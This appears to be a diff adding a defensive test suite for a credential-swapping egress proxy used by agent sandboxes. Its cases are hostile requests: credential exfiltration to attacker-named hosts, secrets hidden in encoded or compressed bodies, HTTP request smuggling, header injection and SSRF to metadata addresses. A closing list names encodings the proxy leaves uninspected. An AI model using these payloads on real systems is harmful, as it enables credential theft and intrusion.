@@ -1,0 +1,342 @@
+"""What a hostile program can send: where it goes, how it is written, and where a stub hides in it."""
+
+import base64
+import codecs
+import dataclasses
+import gzip
+import zlib
+
+from boundary.cases import A, A_GIT, AUTH, B, B_SEEN, E, OTHER, BoundaryTest, Case, add_cases, get
+from boundary.internet import brotli, zstandard
+from boundary.world import enter
+
+MISMATCH = "credential_endpoint_mismatch"
+ALL_WAYS = ("direct", "connect", "proxy")
+
+
+def setUpModule():
+    enter()
+
+
+def late(data):
+    return data.decode("latin-1") if isinstance(data, bytes) else data
+
+
+class Destination(BoundaryTest):
+    """Where a request goes is decided by one name, and all that names a host must say the same."""
+
+    def test_an_endpoint_of_the_agent_s_own_reads_the_stub(self):
+        job = self.sandbox.run(
+            "cat > /tmp/own.py <<'END'\n"
+            "import http.server\n"
+            "class Own(http.server.BaseHTTPRequestHandler):\n"
+            "    def do_GET(self):\n"
+            "        self.send_response(200); self.end_headers()\n"
+            "        self.wfile.write(self.headers['Authorization'].encode())\n"
+            "server = http.server.HTTPServer(('127.0.0.1', 8080), Own)\n"
+            "import threading, urllib.request, os\n"
+            "threading.Thread(target=server.serve_forever, daemon=True).start()\n"
+            "ask = urllib.request.Request('http://127.0.0.1:8080/', headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n"
+            "print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(ask).read().decode())\n"
+            "END\npython3 /tmp/own.py")
+        self.assertEqual(job.text.strip(), f"Bearer {self.stubs['GITHUB_TOKEN']}")
+        events, requests = self.settle()
+        self.assertEqual((events, requests), ([], []))
+
+    def test_a_hosts_file_that_names_the_sandbox_leads_into_the_sandbox(self):
+        job = self.sandbox.run(
+            "printf '127.0.0.1 api.github.com\\n' >> /etc/hosts 2>/dev/null; "
+            "python3 - <<'END'\n"
+            "import socket, threading\n"
+            "server = socket.create_server(('127.0.0.1', 8081))\n"
+            "def serve():\n"
+            "    peer, _ = server.accept(); data = peer.recv(65536)\n"
+            "    peer.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(data) + data)\n"
+            "threading.Thread(target=serve, daemon=True).start()\n"
+            "import os, urllib.request\n"
+            "ask = urllib.request.Request('http://127.0.0.1:8081/', headers={'Host': 'api.github.com', 'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n"
+            "print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(ask).read().decode())\n"
+            "END")
+        self.assertIn(f"Bearer {self.stubs['GITHUB_TOKEN']}", job.text)
+
+
+add_cases(Destination, [
+    Case("S01 the declared field of the bound host is swapped", get("/x", AUTH), "swap"),
+    Case("S01 with the other word of the preset", get("/x", "Authorization: token {S}"), "swap"),
+    Case("D01 a host that is not allowed", get("/x", AUTH, host=E), "block", host=E, code="host_not_allowed",
+         ways=("connect",)),
+    Case("D01 its address", get("/x", AUTH, host=E), "block", host="45.33.32.156", code="host_not_allowed",
+         more={"server_name": "", "verify": False}),
+    Case("D01 plain", get("/x", AUTH, host=E), "block", host=E, tls=False, code="host_not_allowed", ways=("proxy", "connect")),
+    Case("D02 an allowed host without a binding, looked into", get("/x", AUTH, host=B_SEEN), "block", host=B_SEEN, code=MISMATCH),
+    Case("D02 an allowed host without a binding, plain", get("/x", AUTH, host=B), "block", host=B, tls=False, code=MISMATCH,
+         ways=ALL_WAYS),
+    Case("U03 an allowed host without a binding is not decrypted", get("/echo", AUTH, host=B), "pass", host=B, holds="{S}"),
+    Case("D03 a stub at another credential's host", get("/x", "X-Api-Key: {S}", host=OTHER), "block", host=OTHER, code=MISMATCH),
+    Case("D03 in its usual field", get("/x", AUTH, host=OTHER), "block", host=OTHER, code=MISMATCH),
+    Case("D04 the attacker's address with another Host", get("/x", AUTH), "block", host="45.33.32.156", tls=False,
+         code="host_not_allowed", ways=("direct",)),
+    Case("D05 the attacker's address with the server name of A", get("/x", AUTH), "block", host="45.33.32.156",
+         code="host_not_allowed", more={"server_name": A}),
+    Case("D05 the right address of A, not by name", get("/x", AUTH), "block", host="140.82.112.5", code="host_not_allowed",
+         more={"server_name": A}),
+    Case("D06 the server name of another", get("/x", AUTH), "block", code="sni_host_mismatch", more={"server_name": B}),
+    Case("D06 the server name of a stranger", get("/x", AUTH), "block", code="sni_host_mismatch", more={"server_name": E}),
+    Case("D09 Host of a stranger inside the right TLS", get("/x", AUTH, host=E), "block", code="host_mismatch"),
+    Case("D09 Host of an allowed one", get("/x", AUTH, host=B), "block", code="host_mismatch"),
+    Case("D11 no server name", get("/x", AUTH), "block", code="sni_host_mismatch", more={"server_name": "", "verify": False}),
+    Case("D15 Host in other letters", get("/x", AUTH, host="API.GitHub.Com"), "swap"),
+    Case("D15 the echo is scrubbed in other letters, too", get("/echo", AUTH, host="API.GitHub.Com"), "scrub", holds="{S}"),
+    Case("D15 connected in other letters", get("/echo", AUTH, host="API.GitHub.Com"), "scrub",
+         more={"connect": "API.GitHub.COM:443", "dial": "API.GitHub.COM", "server_name": "API.GitHub.Com"}),
+    Case("D16 a dot at the end of Host", get("/echo", AUTH, host=A + "."), "scrub"),
+    Case("D16 a dot at the end of the name", get("/echo", AUTH, host=A + "."), "scrub",
+         more={"connect": A + ".:443", "dial": A + "."}),
+    Case("D19 NUL in Host", get("/x", AUTH, host=E + "\0." + A), "block"),
+    Case("D19 NUL in CONNECT", get("/x", AUTH), "block", ways=("connect",), more={"connect": E + "\0." + A + ":443"}),
+    Case("D19 a control byte in CONNECT", get("/x", AUTH), "block", ways=("connect",), more={"connect": E + "\x01." + A + ":443"}),
+    Case("D19 a space in Host", get("/x", AUTH, host=A + " " + E), "block"),
+    Case("D21 userinfo before a stranger", f"GET http://{A}@{E}/ HTTP/1.1\r\nHost: {E}\r\n{AUTH}\r\n\r\n", "block", tls=False,
+         ways=("proxy",)),
+    Case("D21 a stub as userinfo", "GET http://{S}:x@" + A + "/ HTTP/1.1\r\nHost: " + A + "\r\n\r\n", "block", tls=False,
+         ways=("proxy",)),
+    Case("D22 a number for loopback", get("/x", host="2130706433"), "block", host="2130706433", tls=False, ways=("proxy", "connect")),
+    Case("D22 hexadecimal", get("/x", host="0x7f.1"), "block", host="0x7f.1", tls=False, ways=("proxy", "connect")),
+    Case("D22 octal", get("/x", host="017700000001"), "block", host="017700000001", tls=False, ways=("proxy", "connect")),
+    Case("D22 mapped", get("/x", host="[::ffff:127.0.0.1]"), "block", host="[::ffff:127.0.0.1]", tls=False, ways=("proxy", "connect")),
+    Case("D22 with a zone", get("/x", host="[fe80::1%25eth0]"), "block", host="[fe80::1%25eth0]", tls=False, ways=("proxy", "connect")),
+    Case("D23 a name with a private address", get("/x", host="private.example.net"), "block", host="private.example.net",
+         code="address_not_allowed"),
+    Case("D23 a name with a mapped private address", get("/x", host="mapped.example.net"), "block", host="mapped.example.net",
+         tls=False, ways=ALL_WAYS),
+    Case("D23 public and private at once", get("/x", host="mixed.example.net"), "block", host="mixed.example.net",
+         tls=False, code="address_not_allowed", ways=ALL_WAYS),
+    Case("D27 self-signed", get("/x", AUTH, host="self-signed.bad.example.com"), "block", host="self-signed.bad.example.com",
+         code="upstream_tls", credential="BAD_HOSTS_KEY"),
+    Case("D27 expired", get("/x", AUTH, host="expired.bad.example.com"), "block", host="expired.bad.example.com",
+         code="upstream_tls", credential="BAD_HOSTS_KEY"),
+    Case("D27 another's name", get("/x", AUTH, host="wrong-name.bad.example.com"), "block", host="wrong-name.bad.example.com",
+         code="upstream_tls", credential="BAD_HOSTS_KEY"),
+    Case("D28 two labels under a wildcard", get("/x", AUTH, host="a.b.bad.example.com"), "block", host="a.b.bad.example.com",
+         code="host_not_allowed", credential="BAD_HOSTS_KEY", ways=("connect",)),
+    Case("D28 the name of the wildcard itself", get("/x", AUTH, host="bad.example.com"), "block", host="bad.example.com",
+         code="host_not_allowed", credential="BAD_HOSTS_KEY", ways=("connect",)),
+    Case("D28 a name that ends alike", get("/x", AUTH, host="evilbad.example.com"), "block", host="evilbad.example.com",
+         code="host_not_allowed", credential="BAD_HOSTS_KEY", ways=("connect",)),
+    Case("D30 a sister host", get("/x", AUTH, host="gist.github.com"), "block", host="gist.github.com", code="host_not_allowed",
+         ways=("connect",)),
+    Case("D32 the machine of Pons", get("/x", host="this-machine.example.net"), "block", host="this-machine.example.net",
+         tls=False, ways=ALL_WAYS),
+    Case("D32 the proxy through itself", get("/x", host="127.0.0.1:3128"), "block", host="127.0.0.1", port=3128, tls=False,
+         ways=("proxy", "connect")),
+    Case("A over a plain line gets no secret", get("/x", AUTH), "block", tls=False, code=MISMATCH, ways=ALL_WAYS),
+    Case("plain HTTP on the port of TLS gets no secret", get("/x", AUTH), "block", tls=False, port=443),
+    Case("N09 metadata by address", get("/x", host="169.254.169.254"), "block", host="169.254.169.254", tls=False, ways=ALL_WAYS),
+    Case("N09 metadata by a name that is allowed", get("/x", host="metadata.example.net"), "block", host="metadata.example.net",
+         tls=False, ways=ALL_WAYS, code="address_not_allowed"),
+    Case("N09 metadata, mapped", get("/x", host="[::ffff:169.254.169.254]"), "block", host="::ffff:169.254.169.254", tls=False,
+         ways=("direct",)),
+    Case("N10 the other side of the host", get("/x", host="198.41.0.1"), "block", host="198.41.0.1", tls=False, ways=ALL_WAYS),
+    Case("S14 a stub as CONNECT target", get("/x"), "block", ways=("connect",), more={"connect": "{S}.example.org:443"}),
+    Case("S14 a stub as proxy credentials is not carried", get("/echo"), "pass", ways=("connect",), lacks="{S}",
+         more={"connect_fields": "Proxy-Authorization: Bearer {S}\r\n"}),
+    Case("a CONNECT without a port", get("/x"), "block", ways=("connect",), more={"connect": A}),
+    Case("a CONNECT to port 0", get("/x"), "block", ways=("connect",), more={"connect": A + ":0"}),
+])
+
+
+class Parsing(BoundaryTest):
+    """A request that two programs could read differently does not leave."""
+
+
+def post(*lines, body=""):
+    return "\r\n".join((f"POST /x HTTP/1.1", f"Host: {A}", AUTH, *lines)) + "\r\n\r\n" + body
+
+
+add_cases(Parsing, [
+    Case("P01 length and chunks", post("Content-Length: 5", "Transfer-Encoding: chunked", body="0\r\n\r\n"), "block"),
+    Case("P01 chunks and length", post("Transfer-Encoding: chunked", "Content-Length: 5", body="0\r\n\r\n"), "block"),
+    *[Case(f"P02 length {name}", post(*lines, body="hello"), "block") for name, lines in {
+        "twice": ("Content-Length: 5", "Content-Length: 6"), "with a sign": ("Content-Length: +5",), "listed": ("Content-Length: 5,5",),
+        "hexadecimal": ("Content-Length: 0x5",), "of twenty digits": ("Content-Length: 99999999999999999999",),
+        "negative": ("Content-Length: -1",)}.items()],
+    *[Case(f"P03 transfer coding {name}", post(line, body="0\r\n\r\n"), "block") for name, line in {
+        "unknown": "Transfer-Encoding: xchunked", "twice": "Transfer-Encoding: chunked, chunked",
+        "before another": "Transfer-Encoding: chunked, identity", "with a tab": "Transfer-Encoding:\x0bchunked",
+        "gzip": "Transfer-Encoding: gzip, chunked"}.items()],
+    Case("P05 space before the colon", post("X-A : 1"), "block"),
+    Case("P05 empty name", post(": 1"), "block"),
+    Case("P05 odd byte in a name", post("X(A: 1"), "block"),
+    Case("P05 folded line", post("X-A: 1", " folded"), "block"),
+    Case("P05 bare CR", post("X-A: 1\rX-B: 2"), "block"),
+    Case("P05 bare LF", f"GET /x HTTP/1.1\nHost: {A}\n{AUTH}\n\n", "block"),
+    Case("P05 NUL in a value", post("X-A: 1\x002"), "block"),
+    Case("P06 Host twice", get("/x", f"Host: {A}", AUTH), "block"),
+    Case("P06 two hosts", get("/x", f"Host: {E}", AUTH), "block"),
+    Case("P06 no Host", f"GET /x HTTP/1.1\r\n{AUTH}\r\n\r\n", "block"),
+    Case("P07 a whole address of another", f"GET https://{E}/x HTTP/1.1\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
+    Case("P07 a whole address and a Host of another", f"GET https://{A}/x HTTP/1.1\r\nHost: {E}\r\n{AUTH}\r\n\r\n", "block"),
+    Case("P08 CONNECT in the tunnel", f"CONNECT {E}:443 HTTP/1.1\r\nHost: {E}:443\r\n\r\n", "block"),
+    Case("P08 CONNECT to itself in the tunnel", f"CONNECT {A}:443 HTTP/1.1\r\nHost: {A}:443\r\n\r\n", "block"),
+    Case("P08 OPTIONS for the whole server", f"OPTIONS * HTTP/1.1\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
+    Case("P08 a host as target", f"GET {A}:443 HTTP/1.1\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
+    Case("P10 a chunk extension is not carried", post("Transfer-Encoding: chunked", body="2;{S}\r\nok\r\n0\r\n\r\n"), "swap",
+         holds='"bytes": 2'),
+    Case("P10 a huge chunk extension", post("Transfer-Encoding: chunked", body="2;" + "x" * 100_000 + "\r\nok\r\n0\r\n\r\n"), "block"),
+    Case("P11 a trailer is not carried", post("Transfer-Encoding: chunked", "Trailer: X-A", body="2\r\nok\r\n0\r\nX-A: {S}\r\n\r\n"),
+         "swap", holds='"bytes": 2'),
+    Case("P12 Connection names the credential", get("/x", AUTH, "Connection: Authorization"), "block", code="malformed_request"),
+    Case("P12 Connection names Host", get("/x", AUTH, "Connection: close, Host"), "block", code="malformed_request"),
+    Case("P13 a stub in a body that waits", post("Expect: 100-continue", "Content-Length: 40", body=""), "block",
+         code="undeclared_position", more={"later": ["{S}"]}),
+    Case("P14 the credential twice", get("/x", AUTH, AUTH), "block", code="duplicate_credential"),
+    Case("P14 the credential and another", get("/x", AUTH, "Authorization: Bearer attackers-own-token-000000000000"), "block"),
+    Case("P14 another and the credential", get("/x", "Authorization: Bearer attackers-own-token-000000000000", AUTH), "block"),
+    Case("P17 another method in a field is dropped", get("/echo", AUTH, "X-HTTP-Method-Override: DELETE"), "scrub", lacks="Override"),
+    Case("P18 a megabyte of fields", get("/x", AUTH, *[f"X-{i}: {'x' * 1000}" for i in range(1000)]), "block"),
+    Case("P18 ten thousand fields", get("/x", AUTH, *[f"X-{i}: 1" for i in range(10_000)]), "block"),
+    Case("P20 bytes behind a request without a body are the next request", get("/echo", AUTH) + f"GET /smuggled HTTP/1.1\r\nHost: {E}\r\n\r\n",
+         "pass", events=2, more={"until_closed": True, "seconds": 1},
+         check=lambda test, received, requests: test.assertNotIn("/smuggled", [r["target"] for r in requests])),
+    Case("P21 forged origins are dropped", get("/echo", AUTH, "X-Forwarded-For: 1.2.3.4", "Forwarded: for=1.2.3.4", "Via: 1.1 x",
+                                              "X-Pons-Sandbox: other", "X-Real-IP: 1.2.3.4"), "scrub", lacks="1.2.3.4"),
+    Case("R03 TRACE", get("/x", AUTH, method="TRACE"), "block", code="method_not_allowed"),
+    Case("R03 Max-Forwards is dropped", get("/echo", AUTH, "Max-Forwards: 0"), "scrub", lacks="Max-Forwards"),
+    Case("HTTP/1.0", f"GET /x HTTP/1.0\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "swap", more={"until_closed": True}),
+    Case("HTTP/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "closed", tls=False),
+    Case("HTTP/3.0 as version", f"GET /x HTTP/3.0\r\nHost: {A}\r\n{AUTH}\r\n\r\n", "block"),
+    Case("N13 one byte at a time", get("/x", AUTH), "swap", more={"step": 1}),
+    Case("a path with CRLF, percent-encoded, stays one line", get("/x%0d%0aX-A:%201", AUTH), "swap"),
+    Case("a fragment in the target", get("/x#y", AUTH), "block"),
+])
+
+
+class Hiding(BoundaryTest):
+    """A stub, or a secret, anywhere but in the declared place does not leave."""
+
+
+def basic(text):
+    return "Authorization: Basic " + text
+
+
+UNDECLARED = "undeclared_position"
+
+
+def body_case(name, build, code=UNDECLARED, host=A, fields=(), **more):
+    """`build` makes the body out of the stub, once it is known."""
+    return Case(name, "", "block", host=host, code=code, build=(build, fields), **more)
+
+
+class Bodies(BoundaryTest):
+    def attack(self, case, way):
+        build, fields = case.build
+        value = self.world.secrets[case.credential] if case.name.startswith("S16") else self.stubs[case.credential]
+        body = build(value.encode())
+        lines = [f"POST /x HTTP/1.1", f"Host: {case.host}", *fields]
+        if case.host == A:
+            lines.append(AUTH)
+        if not any(line.startswith("Transfer-Encoding") for line in fields):
+            lines.append(f"Content-Length: {len(body)}")
+        case.payload = "\r\n".join(lines) + "\r\n\r\n" + body.decode("latin-1")
+        super().attack(case, way)
+
+
+def multipart(stub, header=b"", name=b"a.txt"):
+    return (b"--b\r\nContent-Disposition: form-data; name=f; filename=" + name + b"\r\n" + header + b"\r\n" + stub + b"\r\n--b--\r\n")
+
+
+def chunked(data, size=1):
+    return b"".join(b"%x\r\n" % len(data[i:i + size]) + data[i:i + size] + b"\r\n" for i in range(0, len(data), size)) + b"0\r\n\r\n"
+
+
+TEXT = b'{"a": "b", "token": "'
+FORM = ("Content-Type: multipart/form-data; boundary=b",)
+
+add_cases(Hiding, [
+    Case("S02 undeclared field", get("/x", "X-Other: {S}", AUTH), "block", code=UNDECLARED),
+    Case("S02 undeclared field alone", get("/x", "X-Other: {S}"), "block", code=UNDECLARED),
+    Case("S02 in a field's name", get("/x", "X-{S}: 1", AUTH), "block", code=UNDECLARED),
+    Case("S02 path", get("/x/{S}", AUTH), "block", code=UNDECLARED),
+    Case("S02 query", get("/x?a={S}", AUTH), "block", code=UNDECLARED),
+    Case("S02 cookie", get("/x", "Cookie: a={S}", AUTH), "block"),
+    Case("S02 user agent", get("/x", "User-Agent: {S}", AUTH), "block", code=UNDECLARED),
+    Case("S02 a field that is dropped", get("/x", "X-Forwarded-For: {S}", AUTH), "block", code=UNDECLARED),
+    Case("S02 method", get("/x", AUTH, method="{S}"), "block"),
+    Case("S03 basic at the API", get("/x", basic(base64.b64encode(b"x:y").decode())), "block"),
+    Case("S03 the wrong word", get("/x", "Authorization: Bearer x{S}"), "block"),
+    Case("S03 two spaces", get("/x", "Authorization: Bearer  {S}"), "block"),
+    Case("S03 no word", get("/x", "Authorization: {S}"), "block"),
+    Case("S03 behind it", get("/x", "Authorization: Bearer {S} x"), "block"),
+    Case("S15 two stubs", get("/x", "Authorization: Bearer {S}{S}"), "block"),
+    Case("T01 the attacker's own key", get("/x", "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"), "block",
+         code="foreign_credential"),
+    Case("T01 in another field", get("/x", "Private-Token: attackers-own-token"), "block", code="foreign_credential"),
+    Case("T01 in the query", get("/x?access_token=attackers-own-token"), "block", code="foreign_credential"),
+    Case("T01 in the query, percent-encoded", get("/x?access%5Ftoken=attackers-own-token"), "block", code="foreign_credential"),
+    Case("T01 in the query, in capitals", get("/x?ACCESS_TOKEN=attackers-own-token"), "block", code="foreign_credential"),
+    Case("T01 beside the swapped parameter", get("/x?key={S}&key=attackers-own-token", host="query.example.com"), "block",
+         host="query.example.com", credential="QUERY_KEY", code="foreign_credential"),
+    Case("T01 in the declared parameter", get("/x?key=attackers-own-token", host="query.example.com"), "block",
+         host="query.example.com", credential="QUERY_KEY", code="foreign_credential"),
+    Case("T01 over a plain line", get("/x", "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"), "block", tls=False,
+         code="foreign_credential"),
+    Case("S16 the real value in its place", get("/x", "Authorization: Bearer {R}"), "block", code="secret_in_request"),
+    Case("S16 the real value in a path", get("/x/{R}", AUTH), "block", code="secret_in_request"),
+    Case("S16 the real value in a query", get("/x?q={R}", AUTH), "block", code="secret_in_request"),
+    Case("S16 the real value to another host", get("/x/{R}", host=B), "block", host=B, tls=False, code="secret_in_request",
+         ways=ALL_WAYS),
+    Case("S16 the real value to another host, looked into", get("/x?{R}", host=B_SEEN), "block", host=B_SEEN, code="secret_in_request"),
+    Case("S01 in the query where it is declared", get("/x?key={S}&a=b", host="query.example.com"), "swap", host="query.example.com",
+         credential="QUERY_KEY"),
+    Case("S02 in another parameter", get("/x?other={S}", host="query.example.com"), "block", host="query.example.com",
+         credential="QUERY_KEY", code=UNDECLARED),
+    Case("S01 in the path where it is declared", get("/bot/{S}/send", host="path.example.com"), "swap", host="path.example.com",
+         credential="PATH_KEY"),
+    Case("S18 what looks like a stub is none", get("/x", AUTH, "X-Note: ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"), "swap"),
+])
+add_cases(Bodies, [
+    body_case("S02 body", lambda s: TEXT + s + b'"}'),
+    body_case("S02 body of another host", lambda s: s, host=B_SEEN, code=MISMATCH),
+    body_case("S06 base64", lambda s: base64.b64encode(b"ab" + s)),
+    body_case("S06 base64url", lambda s: base64.urlsafe_b64encode(b"\xff" + s)),
+    body_case("S06 base32", lambda s: base64.b32encode(s)),
+    body_case("S06 hex", lambda s: s.hex().encode()),
+    body_case("S06 HEX", lambda s: s.hex().upper().encode()),
+    body_case("S06 percent", lambda s: b"".join(b"%%%02X" % byte for byte in s)),
+    body_case("S06 JSON escapes", lambda s: b"".join(b"\\u%04x" % byte for byte in s)),
+    body_case("S06 entities", lambda s: b"".join(b"&#x%x;" % byte for byte in s)),
+    body_case("S06 UTF-16", lambda s: s.decode().encode("utf-16-le")),
+    body_case("S06 quoted-printable", lambda s: b"".join(b"=%02X" % byte for byte in s)),
+    body_case("S08 gzip", lambda s: gzip.compress(TEXT + s), fields=("Content-Encoding: gzip",)),
+    body_case("S08 deflate", lambda s: zlib.compress(TEXT + s), fields=("Content-Encoding: deflate",)),
+    body_case("S08 br", lambda s: brotli(TEXT + s), fields=("Content-Encoding: br",)),
+    body_case("S08 zstd", lambda s: zstandard(TEXT + s), fields=("Content-Encoding: zstd",)),
+    body_case("S08 stacked", lambda s: gzip.compress(gzip.compress(TEXT + s)), fields=("Content-Encoding: gzip, gzip",)),
+    body_case("S08 in two fields", lambda s: gzip.compress(zlib.compress(TEXT + s)),
+              fields=("Content-Encoding: deflate", "Content-Encoding: gzip")),
+    body_case("S08 a wrong label", lambda s: gzip.compress(TEXT + s), fields=("Content-Encoding: br",), code="undecodable_body"),
+    body_case("S08 an unknown label", lambda s: gzip.compress(TEXT + s), fields=("Content-Encoding: x-own",), code="undecodable_body"),
+    body_case("S09 multipart", multipart, fields=FORM),
+    body_case("S09 file name", lambda s: multipart(b"x", name=s), fields=FORM),
+    body_case("S09 part header", lambda s: multipart(b"x", header=b"X-A: " + s + b"\r\n"), fields=FORM),
+    body_case("S09 part in base64", lambda s: multipart(base64.encodebytes(b"x" * 40 + s), header=b"Content-Transfer-Encoding: base64\r\n"),
+              fields=FORM),
+    body_case("S09 no boundary", multipart, fields=("Content-Type: multipart/form-data",)),
+    body_case("chunks of one byte", lambda s: chunked(TEXT + s), fields=("Transfer-Encoding: chunked",)),
+    body_case("S11 behind 60 KB", lambda s: b"x" * 60_000 + s),
+    body_case("S16 the real value", lambda s: TEXT + s, code="secret_in_request"),
+    body_case("S16 the real value in base64", lambda s: base64.b64encode(s), code="secret_in_request"),
+    body_case("S16 the real value to another host", lambda s: s, code="secret_in_request", host=B_SEEN),
+])
+
+# What is not looked into (docs/operate/threat-model.md): nothing but the stub gets out, and the stub opens nothing.
+add_cases(Bodies, [
+    dataclasses.replace(body_case(name, build, fields=fields), expect="swap", code="") for name, build, fields in (
+        ("S12 reversed", lambda s: s[::-1], ()),
+        ("S12 rot13", lambda s: codecs.encode(s.decode(), "rot13").encode(), ()),
+        ("S12 in two fields", lambda s: b'{"a": "' + s[:20] + b'", "b": "' + s[20:] + b'"}', ()),
+        ("S12 base64 of base64", lambda s: base64.b64encode(base64.b64encode(s)), ()),
+        ("S12 gzip that does not say so", lambda s: gzip.compress(TEXT + s), ()),
+        ("S12 gzip in a part", lambda s: multipart(gzip.compress(s)), FORM))])
+
+del BoundaryTest  # or it would run by itself
